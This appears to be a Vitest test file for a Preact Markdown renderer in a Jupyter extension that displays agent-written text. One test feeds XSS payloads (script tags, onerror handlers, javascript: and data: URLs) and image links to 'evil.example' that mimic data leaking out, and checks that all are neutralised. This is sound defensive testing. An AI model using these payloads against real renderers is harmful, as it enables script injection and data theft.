// @vitest-environment happy-dom
import { render } from 'preact';
import { expect, test, vi } from 'vitest';
import { Markdown } from '../../jupyter_ext/ui/markdown';

function shown(text: string): HTMLElement {
  const host = document.createElement('div');
  render(<Markdown text={text} />, host);
  return host;
}

test('marks that agents write become elements', () => {
  const host = shown('Take **F2**, *not* `roc_auc`:\n\n- one\n- two\n\n1. first');
  expect(host.querySelector('strong')!.textContent).toBe('F2');
  expect(host.querySelector('em')!.textContent).toBe('not');
  expect(host.querySelector('code')!.textContent).toBe('roc_auc');
  expect(host.querySelectorAll('ul li')).toHaveLength(2);
  expect(host.querySelectorAll('ol li')).toHaveLength(1);
});

test.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '![pixel](https://evil.example/?leak=42)',
  '[![pixel](https://evil.example/a.png)](https://evil.example)',
  '[click](javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '```\n<img src=x>\n```',
  '<a href="javascript:alert(1)">x</a>'
])('no HTML, image or script comes out of %s', text => {
  const host = shown(text);
  expect(host.querySelectorAll('img, script, iframe, svg, [onerror]')).toHaveLength(0);
  host.querySelectorAll('[role=link]').forEach(link => expect(link.textContent).toMatch(/https?:/));
});

test('an http link is no anchor before it is clicked; then it opens apart and gives nothing away', () => {
  const followed: HTMLAnchorElement[] = [];
  const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    followed.push(this);
  });
  const host = shown('see [the docs](https://example.org/x)');
  expect(host.querySelector('a')).toBeNull();
  host.querySelector<HTMLElement>('[role=link]')!.click();
  expect(followed.map(a => [a.href, a.target])).toEqual([['https://example.org/x', '_blank']]);
  expect(followed[0]!.rel).toContain('noopener');
  click.mockRestore();
});

test.each(['snake_case_name and 2*3*4', 'a ** b', '[x] is no link', '`unclosed', '_', ''])(
  'ordinary text stays as written: %s',
  text => expect(shown(text).textContent).toBe(text)
);

test('very many marks are shown, one after the other', () => {
  const host = shown('`a` *b* '.repeat(2000));
  expect(host.querySelectorAll('code')).toHaveLength(2000);
  expect(host.querySelectorAll('em')).toHaveLength(2000);
});

test('marks within marks are shown', () => {
  const host = shown('**take `F2`, [docs](https://example.org/x) and _that_**, then *`a`*');
  expect(host.querySelectorAll('strong code, strong [role=link], strong em')).toHaveLength(3);
  expect(host.querySelector('em > code')!.textContent).toBe('a');
});

test.each(['`a` ', '[a](', '[', '_a ', '**a ', '```\n', '- - ', '![', '[a](https://x '])(
  'of a text of %s over and over nothing is lost, and all behind the first part is plain text',
  piece => {
    const text = piece.repeat(64_000 / piece.length);
    const host = shown(text);
    const plain = host.querySelector('.ct-plain')!;
    expect(text.endsWith(plain.textContent)).toBe(true);
    expect(plain.textContent.length).toBeGreaterThan(43_900);
    expect(plain.children).toHaveLength(0);
  }
);

test('a long text is cut between lines, and its plain part is marked too', () => {
  const line = `${'word '.repeat(100)}\n`;
  const seen: string[] = [];
  const host = document.createElement('div');
  render(<Markdown text={line.repeat(60)} mark={text => (seen.push(text), text)} />, host);
  expect(host.querySelector('.ct-plain')!.textContent).toBe(line.repeat(21));
  expect(seen).toHaveLength(2);
});

test('the first fence that follows ends a block of code', () => {
  const host = shown('```\na\n```\nb\n```\nc');
  expect([...host.querySelectorAll('pre')].map(e => e.textContent)).toEqual(['a', 'c']);
});
